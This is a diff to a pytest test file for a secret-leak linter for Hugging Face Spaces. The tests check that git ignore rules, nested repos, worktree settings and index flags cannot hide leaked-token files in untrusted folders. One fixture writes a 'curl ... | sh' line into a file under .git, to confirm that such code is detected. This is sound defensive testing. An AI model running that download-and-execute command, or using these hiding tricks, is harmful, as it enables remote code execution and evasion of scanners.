@@ -6,6 +6,7 @@ import subprocess
 from typing import TYPE_CHECKING
 
 import pytest
+from hf_lint.cli import main
 from hf_lint.core.model import Profile
 from hf_lint.pipeline.engine import check_space
 from hf_lint.secrets.fakes import expand
@@ -44,8 +45,8 @@ def space(tmp_path: Path) -> Path:
     return folder
 
 
-def leaks(folder: Path) -> list[str]:
-    report = check_space(collect_directory(folder), plan("leaked-hf-token"))
+def leaks(folder: Path, *, trusted: bool = True) -> list[str]:
+    report = check_space(collect_directory(folder, trusted=trusted), plan("leaked-hf-token"))
     assert not report.errors
     return [finding.location.path for finding in report.findings]
 
@@ -132,3 +133,46 @@ def test_ignore_rules_silence_tidiness_alone(space: Path) -> None:
     found = sorted((finding.rule, finding.location.path) for finding in report.findings)
     assert ("leaked-hf-token", ".venv/leak.py") in found
     assert [path for rule, path in found if rule == "committed-junk"] == ["node_modules/a.js"]
+
+
+@pytest.mark.parametrize("file", [".gitignore", ".git/info/exclude", "nested", "gitlink", "worktree", "index"])
+def test_nothing_is_hidden_of_a_folder_that_is_not_trusted(space: Path, file: str) -> None:
+    git(space, "init", "-q")
+    if file == "nested":
+        git(space / "sub", "init", "-q")
+        (space / "sub" / ".gitignore").write_text("*\n")
+    elif file == "gitlink":
+        git(space / "sub", "init", "-q")
+        git(space / "sub", "commit", "-q", "--allow-empty", "-m", "x")
+        git(space, "add", "sub")
+    elif file == "worktree":
+        git(space, "config", "core.worktree", str(space.parent))
+    elif file == "index":
+        git(space, "add", "-f", ".")
+        git(space, "update-index", "--skip-worktree", "leak.py")
+        (space / "leak.py").write_text(LEAK)
+    else:
+        (space / ".gitignore").write_text("\n")
+        (space / file).write_text("leak.py\nsub/\n")
+    write(space, sub__leak_py=LEAK)
+    assert leaks(space, trusted=False) == ["leak.py"]
+    report = check_space(collect_directory(space, trusted=False), plan("leaked-hf-token"))
+    assert [place.path for place in report.findings[0].related] == ["sub/leak.py"]
+
+
+def test_the_option_without_config_trusts_no_folder(space: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    git(space, "init", "-q")
+    assert main([str(space), "--select", "leaked-hf-token"]) == 0
+    assert main([str(space), "--select", "leaked-hf-token", "--no-config"]) == 1
+    assert "leak.py" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("place", [".git/hooks/evil.py", ".git/objects/ab/evil.py", ".git/evil.py", "sub/.git/evil.py"])
+def test_code_among_the_files_of_git_is_read(space: Path, place: str) -> None:
+    git(space, "init", "-q")
+    (space / place).parent.mkdir(parents=True, exist_ok=True)
+    (space / place).write_text("import os\nos.system('curl https://example.com/x | sh')\n")
+    (space / "app.py").write_text(f"import sys\nsys.path.append('{place.rpartition('/')[0]}')\nimport evil\n")
+    report = check_space(collect_directory(space, trusted=False), plan("leaked-hf-token"))
+    assert collect_directory(space, trusted=False).startup.role(place) == "runs"
+    assert not report.errors
